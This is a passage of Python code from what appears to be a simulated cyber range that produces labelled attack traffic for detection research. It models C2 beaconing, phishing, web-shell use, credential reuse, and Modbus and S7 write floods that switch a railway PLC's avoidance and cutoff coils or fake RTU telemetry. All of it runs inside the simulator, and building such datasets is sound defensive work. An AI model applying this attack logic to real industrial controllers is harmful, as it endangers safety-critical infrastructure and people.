        self.flooding = False
        ctx.registry[f"fci:{host_name}"] = self
        ctx.hub.emit("fci_active", host_name, binary_path)
        step = labels.activate
        t = ctx.truth
        t.memory(step, host_name, self.proc.pid, "process", "fciModule.exe", f"FCI attack module on {host_name}")
        t.memory(step, host_name, self.proc.pid, "cmdline", binary_path, "FCI module launch path")
        t.memory(step, host_name, self.proc.pid, "module", "libmbtcp.so", "industrial write library")
        t.memory(step, host_name, self.proc.pid, "socket", f"{c2_ip}:{C2_PORT}", "FCI module socket to the C2 server")
        t.memory(step, host_name, self.proc.pid, "socket", f"{plc_ip}:502", "FCI module socket to the railway PLC")
        t.memory(step, host_name, self.shell.pid, "process", "sh", "remote shell that launched the FCI module")
        ctx.loop.schedule_in(10_000_000, self._beacon)

    def _beacon(self) -> None:
        marker = "fci ready"
        payload = wrap_sealed(self.key_id, self.cipher, c2p.beacon_request(marker).encode())
        delivery = self.ctx.fabric.send(
            self.host_name, self.c2_host, self.client_port, C2_PORT, payload, origin="malicious"
        )
        self.ctx.truth.frame(
            self.labels.beacon, delivery.frame, delivery.outcome,
            f"FCI module beacon loop {self.host_name} -> c2",
            loop_key=f"beacon:fci:{self.host_name}",
        )
        self.ctx.loop.schedule_in(60_000_000, self._beacon)

    def _on_frame(self, frame: Frame) -> None:
        if not is_sealed(frame.payload):
            return
        try:
            _, plaintext = open_sealed(
                frame.payload, {self.key_id: self.ctx.keychain.keyring()[self.key_id]}
            )
        except (KeyError, AuthFailure, C2CodecError):
            return
        text = plaintext.decode("utf-8", "replace")
        if text.startswith("200 TASK") or text == "200 IDLE":
            command = c2p.parse_c2_response(text)
            if command and command.startswith("targets "):
                self._apply_targets(command)

    def _apply_targets(self, command: str) -> None:
        # "targets <train> avoid=<coil> cutoff=<coil>"
        parts = dict(
            kv.split("=") for kv in command.split(" ")[2:] if "=" in kv
        )
        train = command.split(" ")[1]
        host = self.ctx.host(self.host_name)
        plc_ip = self.ctx.fabric.hosts[self.plc_host].ip
        content = (
                "{\n"
                f'  "plc": "{plc_ip}",\n'
                f'  "avoidance_coil": {parts.get("avoid", COIL_AVOIDANCE)},\n'
                f'  "cutoff_coil": {parts.get("cutoff", self.train_coil)},\n'
                f'  "train": "{train}",\n'
                '  "write_period_ms": 500\n'
                "}\n"
        ).encode()
        path = "/opt/maint/fci_targets.json"
        host.write_file(self.ctx.loop.now, path, content, origin="malicious", note="fci targets")
        step, _ = self._task_meta(command)
        self.ctx.truth.file(step, host, path, "resolved FCI target parameters")
        self.ctx.hub.emit("fci_targets_resolved", self.host_name, command)

    def _task_meta(self, command: str) -> Tuple[str, str]:
        c2 = self.ctx.registry.get("c2")
        if c2 is not None:
            step, desc = c2.task_meta.get((self.host_name, command), (None, command))
            if step is not None:
                return step, desc
        return self.labels.activate, command

    # -- phases --------------------------------------------------------------

    def run_recon(self, step: str, qty: int) -> None:
        self._recon_step = step
        self._recon_pending = 2
        sent: List[Tuple[Frame, str]] = []

        def hook(frame: Frame, outcome: str) -> None:
            if frame.src_port == self.modbus.client_port:
                sent.append((frame, outcome))

        self.ctx.fabric.frame_listeners.append(hook)
        try:
            self.modbus.request(
                self.plc_host, ReadRegistersRequest(fc=FC_READ_INPUT, addr=0, qty=qty),
                context=("recon", step), origin="malicious",
            )
            self.modbus.request(
                self.plc_host, ReadBitsRequest(fc=FC_READ_COILS, addr=COIL_AVOIDANCE, qty=16),
                context=("recon", step), origin="malicious",
            )
        finally:
            self.ctx.fabric.frame_listeners.remove(hook)
        for frame, outcome in sent:
            fc = frame.payload[7]
            what = "input registers" if fc == FC_READ_INPUT else "avoidance coils"
            self.ctx.truth.frame(
                step, frame, outcome, f"industrial recon read of {what} on the PLC"
            )
        self.ctx.hub.emit("fci_recon", self.host_name, f"qty={qty}")

    def _on_modbus_response(self, context, request_pdu, response_pdu) -> None:
        if not context or context[0] != "recon":
            return
        step = context[1]
        self._recon.append(repr(response_pdu))
        self._recon_pending -= 1
        if self._recon_pending == 0:
            report = "\n".join(self._recon).encode()
            msg = c2p.result_request("fci telemetry", report).encode()
            sealed = wrap_sealed(self.key_id, self.cipher, msg)
            delivery = self.ctx.fabric.send(
                self.host_name, self.c2_host, self.client_port, C2_PORT, sealed,
                origin="malicious",
            )
            self.ctx.truth.frame(
                step, delivery.frame, delivery.outcome,
                "PLC telemetry forwarded to the C2 server",
            )
            self.ctx.hub.emit("fci_telemetry_sent", self.host_name, "")

    def run_flood(self, step: str, duration_s: float, period_ms: int) -> None:
        self.flooding = True
        end_ts = self.ctx.loop.now + int(duration_s * 1_000_000)
        period_us = period_ms * 1000
        self.ctx.hub.emit("fci_flood_started", self.host_name, f"{duration_s}s @ {period_ms}ms")

        def tick() -> None:
            if self.ctx.loop.now >= end_ts:
                self.flooding = False
                self.ctx.hub.emit("fci_flood_done", self.host_name, "")
                return
            self._flood_write(step)
            self.ctx.loop.schedule_in(period_us, tick)

        tick()

    def _flood_write(self, step: str) -> None:
        # capture the two frames the client sends so they can be cataloged
        sent: List[Frame] = []

        def hook(frame: Frame, outcome: str) -> None:
            if frame.src_port == self.modbus.client_port:
                sent.append(frame)

        self.ctx.fabric.frame_listeners.append(hook)
        try:
            self.modbus.request(
                self.plc_host, WriteSingleCoil(addr=COIL_AVOIDANCE, on=False),
                origin="malicious",
            )
            self.modbus.request(
                self.plc_host, WriteSingleCoil(addr=self.train_coil, on=True),
                origin="malicious",
            )
        finally:
            self.ctx.fabric.frame_listeners.remove(hook)
        for frame in sent:
            addr = int.from_bytes(frame.payload[8:10], "big")
            coil = "avoidance" if addr == COIL_AVOIDANCE else "cutoff"
            self.ctx.truth.frame(
                step, frame, "DELIVERED",
                f"false-command write flood loop ({coil} coil)",
                loop_key=f"fci-flood:{coil}",
            )


class FdiScript:
    """False-data-injection tool: overwrites RTU telemetry over the S7 port."""

    def __init__(
        self,
        ctx: Ctx,
        host_name: str,
        script_path: str,
        parent_name: str,
        rtu_host: str,
        labels: ImplantLabels,
    ):
        self.ctx = ctx
        self.host_name = host_name
        self.rtu_host = rtu_host
        self.labels = labels
        host = ctx.host(host_name)
        now = ctx.loop.now
        shell_pid = host.pid_of("sshd")
        self.shell = host.spawn(now, "sh", f"sh -c python3 {script_path}", ppid=shell_pid)
        self.proc = host.spawn(
            now, "python3", f"python3 {script_path}", ppid=self.shell.pid,
            implant=True, modules=["libs7link.so"],
        )
        self.client_port = ctx.next_client_port()
        ctx.fabric.bind(host_name, self.client_port, lambda fr: None)
        rtu_ip = ctx.fabric.hosts[rtu_host].ip
        self.proc.open_sockets.append(Socket(host.ip, self.client_port, rtu_ip, s7p.S7_PORT))
        self._seq = 0
        self.running = False
        ctx.registry[f"fdi:{host_name}"] = self
        ctx.hub.emit("fdi_active", host_name, script_path)
        step = labels.activate
        t = ctx.truth
        t.memory(step, host_name, self.proc.pid, "process", "python3", f"FDI injector process on {host_name}")
        t.memory(step, host_name, self.proc.pid, "cmdline", script_path, "FDI injector launch command")
        t.memory(step, host_name, self.proc.pid, "module", "libs7link.so", "S7-style write library")
        t.memory(step, host_name, self.proc.pid, "socket", f"{rtu_ip}:{s7p.S7_PORT}", "FDI injector socket to the RTU")
        t.memory(step, host_name, self.shell.pid, "process", "sh", "remote shell that launched the FDI injector")

    def run(self, step: str, duration_s: float, period_ms: int, values: Tuple[int, int]) -> None:
        self.running = True
        end_ts = self.ctx.loop.now + int(duration_s * 1_000_000)
        period_us = period_ms * 1000
        self.ctx.hub.emit("fdi_started", self.host_name, f"values={values}")

        def tick() -> None:
            if self.ctx.loop.now >= end_ts:
                self.running = False
                self.ctx.hub.emit("fdi_done", self.host_name, "")
                return
            self._seq = (self._seq + 1) & 0xFFFF
            payload = s7p.encode_s7_write(
                s7p.S7WriteRequest(
                    seq=self._seq, area=s7p.AREA_INPUT_REGS, start=0, values=tuple(values)
                )
            )
            delivery = self.ctx.fabric.send(
                self.host_name, self.rtu_host, self.client_port, s7p.S7_PORT,
                payload, origin="malicious",
            )
            self.ctx.truth.frame(
                step, delivery.frame, delivery.outcome,
                f"false telemetry write loop ({values[0]} V / {values[1]} A)",
                loop_key=f"fdi:{self.host_name}",
            )
            self.ctx.loop.schedule_in(period_us, tick)

        tick()


# ---------------------------------------------------------------------------
# Binary activation dispatch
# ---------------------------------------------------------------------------


@dataclass
class ActivationPlan:
    """How a dropped binary comes alive on a given host."""

    kind: str                      # spytrojan | fcimodule | s7fdi
    labels: ImplantLabels
    c2_host: Optional[str] = None
    plc_host: Optional[str] = None
    rtu_host: Optional[str] = None
    train_coil: int = 101
    beacon_period_us: int = 30_000_000


def make_binary_activator(ctx: Ctx, plans: Dict[Tuple[str, str], ActivationPlan]):
    """Build the ctx.activate_binary hook from a per-(host, kind) plan table."""

    def activate(host_name: str, path: str, parent_name: str) -> None:
        host = ctx.host(host_name)
        entry = host.fs.get(path)
        if entry is None:
            return
        kind = detect_malware(entry.content)
        if kind is None:
            proc = host.spawn(ctx.loop.now, path.replace("\\", "/").rsplit("/", 1)[-1], path)
            host.exit_process(ctx.loop.now, proc.pid)
            return
        if ctx.registry.get(f"trojan:{host_name}") and kind == "spytrojan":
            return  # already resident
        plan = plans.get((host_name, kind))
        if plan is None:
            host.log(ctx.loop.now, "exec_refused", path)
            return
        if kind == "spytrojan":
            SpyTrojan(
                ctx, host_name, path, parent_name, plan.c2_host, plan.labels,
                beacon_period_us=plan.beacon_period_us,
            )
        elif kind == "fcimodule":
            FciModule(
                ctx, host_name, path, parent_name, plan.c2_host, plan.plc_host,
                plan.train_coil, plan.labels,
            )
        elif kind == "s7fdi":
            FdiScript(ctx, host_name, path, parent_name, plan.rtu_host, plan.labels)

    return activate


# ---------------------------------------------------------------------------
# Scheduled behaviors (benign profiles and attack actions)
# ---------------------------------------------------------------------------


def perform_action(
    ctx: Ctx,
    actor_host: str,
    kind: str,
    params: dict,
    origin: str = "benign",
    step: Optional[str] = None,
) -> None:
    """Execute one behavior entry.  Attack entries carry a step label."""
    if kind == "SEND_EMAIL":
        _do_send_email(ctx, actor_host, params, origin, step)
    elif kind == "BROWSE":
        _do_browse(ctx, actor_host, params, origin, step)
    elif kind == "FILE_SHARE_SYNC":
        _do_share_sync(ctx, actor_host, params, origin, step)
    elif kind == "RUN_COMMAND":
        _do_run_command(ctx, actor_host, params)
    elif kind == "UPLOAD_FILE":
        _do_upload(ctx, actor_host, params, origin, step)
    elif kind == "FTP_STOR":
        _do_ftp_stor(ctx, actor_host, params, origin, step)
    elif kind == "WEBSHELL_EXEC":
        _do_webshell_exec(ctx, actor_host, params, origin, step)
    elif kind == "C2_TASK":
        c2 = ctx.registry.get("c2")
        if c2 is None:
            raise PreconditionNotMet("no c2 server in this scenario")
        c2.queue_task(params["victim"], params["command"], step, params.get("desc", ""))
    elif kind == "C2_BEACON":
        trojan = ctx.registry.get(f"trojan:{params.get('host', actor_host)}")
        if trojan is None:
            raise PreconditionNotMet("no implant resident on that host")
        trojan.beacon_now()
    elif kind == "REMOTE_COPY":
        _do_remote_copy(ctx, actor_host, params, origin, step)
    elif kind == "REMOTE_EXEC":
        _do_remote_exec(ctx, actor_host, params, origin, step)
    elif kind == "FCI_RUN":
        fci = ctx.registry.get(f"fci:{params['host']}")
        if fci is None:
            raise PreconditionNotMet(f"no FCI module resident on {params['host']}")
        if params.get("phase") == "recon":
            fci.run_recon(step, qty=int(params.get("qty", 80)))
        else:
            fci.run_flood(step, float(params.get("duration_s", 90)), int(params.get("period_ms", 500)))
    elif kind == "FDI_RUN":
        fdi = ctx.registry.get(f"fdi:{params['host']}")
        if fdi is None:
            raise PreconditionNotMet(f"no FDI injector resident on {params['host']}")
        fdi.run(
            step,
            float(params.get("duration_s", 90)),
            int(params.get("period_ms", 200)),
            tuple(params.get("values", (990, 410))),
        )
    else:
        raise ValueError(f"unknown action kind {kind!r}")


def _do_send_email(ctx: Ctx, actor_host: str, params: dict, origin: str, step: Optional[str]) -> None:
    host = ctx.host(actor_host)
    to_host = params["to"]
    subject = params.get("subject", "(no subject)")
    body = params.get("body", "")
    attach_path = params.get("attach_path")
    text = f"FROM:{actor_host}\nTO:{to_host}\nSUBJECT:{subject}\n"
    if attach_path:
        content = host.read_file(attach_path)
        if content is None:
            raise PreconditionNotMet(f"attachment {attach_path} missing on {actor_host}")
        name = attach_path.replace("\\", "/").rsplit("/", 1)[-1]
        text += f"ATTACH:{name}\n\n" + base64.b64encode(content).decode()
    else:
        text += f"\n\n{body}"
    delivery = ctx.fabric.send(
        actor_host, to_host, ctx.fabric.ephemeral_port(actor_host), EMAIL_PORT,
        text.encode(), origin=origin,
    )
    host.log(ctx.loop.now, "mail_sent", f"to={to_host} subject={subject}")
    if step:
        ctx.hub.emit("mail_attack_sent", actor_host, to_host)
        ctx.truth.frame(step, delivery.frame, delivery.outcome, f"phishing mail {actor_host} -> {to_host}")


def _do_browse(ctx: Ctx, actor_host: str, params: dict, origin: str, step: Optional[str]) -> None:
    target = params["target"]
    path = params.get("path", "/")
    save_as = params.get("save_as")
    client = app_client(ctx, actor_host)
    request = f"GET {path} HTTP/1.1".encode()

    def on_reply(payload: bytes) -> None:
        body = payload.split(b"\r\n\r\n", 1)[1] if b"\r\n\r\n" in payload else b""
        if not payload.startswith(b"HTTP/1.1 200") or save_as is None:
            return
        host = ctx.host(actor_host)
        origin_mark = "malicious" if detect_malware(body) else "benign"
        host.write_file(ctx.loop.now, save_as, body, origin=origin_mark, note=f"download {path}")
        if step:
            ctx.hub.emit("payload_downloaded", actor_host, save_as)
            ctx.truth.file(step, host, save_as, f"downloaded payload {path.rsplit('/', 1)[-1]}")
        if params.get("execute") or (host.auto_run_downloads and save_as.lower().endswith(".exe")):
            ctx.activate_binary(actor_host, save_as, "explorer.exe")

    delivery = client.send(target, WEB_PORT, request, origin=origin, on_reply=on_reply)
    if step:
        ctx.truth.frame(
            step, delivery.frame, delivery.outcome,
            f"download of {path} from the staging server",
        )


def _do_share_sync(ctx: Ctx, actor_host: str, params: dict, origin: str, step: Optional[str]) -> None:
    server = params["server"]
    local_dir = params.get("local_dir", f"C:\\Users\\{actor_host}\\Share")
    client = app_client(ctx, actor_host)
    host = ctx.host(actor_host)

    def on_list(payload: bytes) -> None:
        text = payload.decode("utf-8", "replace")
        if not text.startswith("150 "):
            return
        names = [n for n in text[4:].split(",") if n]
        for name in names:
            local_path = f"{local_dir}\\{name}"
            if host.has_file(local_path):
                continue
            _retr(name, local_path)

    def _retr(name: str, local_path: str) -> None:
        def on_file(payload: bytes) -> None:
            text = payload.decode("utf-8", "replace")
            if not text.startswith("226 "):
                return
            content = base64.b64decode(text[4:].encode())
            origin_mark = "malicious" if detect_malware(content) else "benign"
            host.write_file(ctx.loop.now, local_path, content, origin=origin_mark, note="share sync")
            host.log(ctx.loop.now, "share_sync", name)
            if host.auto_run_downloads and name.lower().endswith(".exe"):
                ctx.hub.emit("share_exec", actor_host, name)
                ctx.activate_binary(actor_host, local_path, "explorer.exe")

        client.send(
            server, FTP_PORT, f"USER anonymous PASS guest RETR {name}".encode(),
            origin=origin, on_reply=on_file,
        )

    client.send(
        server, FTP_PORT, b"USER anonymous PASS guest LIST", origin=origin, on_reply=on_list
    )


def _do_run_command(ctx: Ctx, actor_host: str, params: dict) -> None:
    host = ctx.host(actor_host)
    run_shell_command(ctx, host, params.get("argv", "hostname"), runner=actor_host)


def _do_upload(ctx: Ctx, actor_host: str, params: dict, origin: str, step: Optional[str]) -> None:
    target = params["target"]
    filename = params["filename"]
    host = ctx.host(actor_host)
    if "content_path" in params:
        content = host.read_file(params["content_path"])
        if content is None:
            raise PreconditionNotMet(f"{params['content_path']} missing on {actor_host}")
    else:
        content = base64.b64decode(params["content_b64"].encode())
    body = content.decode("utf-8", "replace")
    request = f"POST /api/upload?filename={filename} HTTP/1.1\r\n\r\n{body}".encode()
    client = app_client(ctx, actor_host)
    delivery = client.send(target, WEB_PORT, request, origin=origin)
    if step:
        ctx.truth.frame(step, delivery.frame, delivery.outcome, f"upload of {filename} to the web app")
        ctx.truth.log(step, "web.log", f"UPLOAD {filename}", f"verbatim upload of {filename} in the web access log")


def _do_webshell_exec(ctx: Ctx, actor_host: str, params: dict, origin: str, step: Optional[str]) -> None:
    target = params["target"]
    shell_path = params.get("shell_path", "/uploads/image.txt")
    cmd = params["cmd"]
    encoded = base64.b64encode(cmd.encode()).decode()
    request = f"GET {shell_path}?cmd={encoded} HTTP/1.1".encode()
    client = app_client(ctx, actor_host)
    collect = params.get("collect_as")

    def on_reply(payload: bytes) -> None:
        body = payload.split(b"\r\n\r\n", 1)[1] if b"\r\n\r\n" in payload else b""
        if collect:
            ctx.registry.setdefault("actor_loot", {})[collect] = body

    delivery = client.send(target, WEB_PORT, request, origin=origin, on_reply=on_reply)
    if step:
        ctx.truth.frame(step, delivery.frame, delivery.outcome, f"web-shell command: {cmd}")
        ctx.truth.log(step, "web.log", f"cmd={encoded}", f"web-shell request for '{cmd}' in the access log")


def _resolve_cred(ctx: Ctx, params: dict, target: str, service: str = "ssh") -> str:
    if "cred" in params:
        return params["cred"]
    ref = params.get("cred_ref", "")
    if ref.startswith("loot:"):
        _, victim, command = ref.split(":", 2)
        c2 = ctx.registry.get("c2")
        blob = c2.loot_text(victim, command) if c2 is not None else None
        if blob is None:
            raise PreconditionNotMet(f"no loot for ({victim}, {command})")
        cred = parse_credential(blob.decode("utf-8", "replace"), target, service)
        if cred is None:
            raise PreconditionNotMet(f"loot has no {service} credential for {target}")
        return cred
    if ref.startswith("actor:"):
        loot = ctx.registry.get("actor_loot", {})
        blob = loot.get(ref[6:])
        if blob is None:
            raise PreconditionNotMet(f"threat actor holds no loot {ref[6:]!r}")
        cred = parse_credential(blob.decode("utf-8", "replace"), target, service)
        if cred is None:
            raise PreconditionNotMet(f"loot has no {service} credential for {target}")
        return cred
    raise PreconditionNotMet("no credential or credential reference supplied")


def _do_ftp_stor(ctx: Ctx, actor_host: str, params: dict, origin: str, step: Optional[str]) -> None:
    server = params["server"]
    filename = params["filename"]
    host = ctx.host(actor_host)
    if "content_path" in params:
        content = host.read_file(params["content_path"])
        if content is None:
            raise PreconditionNotMet(f"{params['content_path']} missing on {actor_host}")
    else:
        content = base64.b64decode(params["content_b64"].encode())
    cred = _resolve_cred(ctx, params, server, service="ftp")
    user, _, password = cred.partition(":")
    blob = base64.b64encode(content).decode()
    request = f"USER {user} PASS {password} STOR {filename}\r\n{blob}".encode()
    client = app_client(ctx, actor_host)
    delivery = client.send(server, FTP_PORT, request, origin=origin)
    if step:
        ctx.truth.frame(
            step, delivery.frame, delivery.outcome,
            f"authenticated upload of {filename} to the file share",
        )


def _do_remote_copy(ctx: Ctx, actor_host: str, params: dict, origin: str, step: Optional[str]) -> None:
    target = params["target"]
    cred = _resolve_cred(ctx, params, target)
    via = params.get("via_implant")
    if via:
        trojan = ctx.registry.get(f"trojan:{via}")
        if trojan is None:
            raise PreconditionNotMet(f"no implant resident on {via}")
        trojan.remote_copy(target, cred, params["src_path"], params["dst_path"], step)
        return
    # direct session from the actor host (benign administration)
    host = ctx.host(actor_host)
    content = host.read_file(params["src_path"])
    if content is None:
        raise PreconditionNotMet(f"{params['src_path']} missing on {actor_host}")
    key_id, cipher = ctx.keychain.new_session(f"scp-{actor_host}-{target}")
    msg = f"AUTH {cred}\nSCP {params['dst_path']} {base64.b64encode(content).decode()}".encode()
    port = ctx.next_client_port()
    ctx.fabric.bind(actor_host, port, lambda fr: None)
    delivery = ctx.fabric.send(
        actor_host, target, port, SSH_PORT, wrap_sealed(key_id, cipher, msg), origin=origin
    )
    if step:
        ctx.truth.frame(step, delivery.frame, delivery.outcome, f"file copy to {target}")


def _do_remote_exec(ctx: Ctx, actor_host: str, params: dict, origin: str, step: Optional[str]) -> None:
    target = params["target"]
    cred = _resolve_cred(ctx, params, target)
    via = params.get("via_implant")
    if via:
        trojan = ctx.registry.get(f"trojan:{via}")
        if trojan is None:
            raise PreconditionNotMet(f"no implant resident on {via}")
        trojan.remote_exec(target, cred, params["cmd"], step)
        return
    key_id, cipher = ctx.keychain.new_session(f"ssh-{actor_host}-{target}")
    msg = f"AUTH {cred}\nEXEC {params['cmd']}".encode()
    port = ctx.next_client_port()
    ctx.fabric.bind(actor_host, port, lambda fr: None)
    delivery = ctx.fabric.send(
        actor_host, target, port, SSH_PORT, wrap_sealed(key_id, cipher, msg), origin=origin
    )
    if step:
        ctx.truth.frame(step, delivery.frame, delivery.outcome, f"remote execution on {target}")
